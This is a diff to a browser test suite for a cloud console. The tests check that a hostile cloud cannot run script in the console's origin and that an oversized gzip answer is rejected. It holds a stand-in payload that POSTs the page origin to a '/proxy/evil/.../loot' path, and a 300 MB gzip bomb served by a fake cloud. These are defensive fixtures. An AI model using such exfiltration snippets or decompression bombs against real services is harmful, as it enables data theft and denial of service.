@@ -1,8 +1,11 @@
 // A cloud that would take over the page: what it answers is never a document, a script or a worker of the console's origin.
 import assert from "node:assert/strict";
 import { after, before, beforeEach, describe, test } from "node:test";
+import { gzipSync } from "node:zlib";
 import { launchBrowser } from "../../src/xtask/browser.mjs";
 import { startCloud, startServer } from "../server/helpers.mjs";
+import * as steps from "./steps.mjs";
+import { visitor } from "./visitor.mjs";
 
 // Says in the page that it ran, and to its cloud who it is there.
 const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/loot", { method: "POST", body: self.origin, headers: { "x-ecs-password-console": "1" } });`;
@@ -137,4 +140,25 @@ describe("used by a document of the console's origin", () => {
       const read = (url) => fetch(url, { headers: { "x-ecs-password-console": "1" } }).then(async (answer) => [answer.headers.get("content-type"), await answer.text()]);
       assert.deepEqual(await page.evaluate(read, `${BASE}/page.html`), ["text/plain", ANSWERS["page.html"][1]]);
     }));
+});
+
+test("300 MB in 0.3 MB of gzip are an error that says so, and the page goes on", async () => {
+  const bomb = gzipSync(Buffer.alloc(300e6, 0xff));
+  assert.ok(bomb.length < 400_000);
+  let lists = 0;
+  const huge = await startCloud((request, response) => {
+    response.setHeader("content-type", "application/json");
+    if (request.url.startsWith("/v3/")) response.end(JSON.stringify({ token: { user: { name: "somebody" }, roles: [] } }));
+    else if (!request.url.includes("/servers/detail")) response.end(JSON.stringify({ version: { version: "2.96", min_version: "2.1" } }));
+    else if ((lists += 1) > 1) response.end(JSON.stringify({ servers: [] }));
+    else response.writeHead(200, { "content-encoding": "gzip" }).end(bomb);
+  });
+  const from = await startServer({ sandbox: false, clouds: [{ name: "huge", kind: "openstack", identity: huge.url, compute: huge.url }] });
+  await visitor(from, async (page) => {
+    await steps.signInWithToken(page, "token", "0".repeat(32));
+    const error = page.getByRole("group", { name: "Error" });
+    assert.match(await error.innerText(), /the answer of cloud huge is larger than 8388608 bytes/);
+    await error.getByRole("button", { name: "Try again" }).click();
+    await page.getByText("There are no servers in this project").waitFor();
+  });
 });
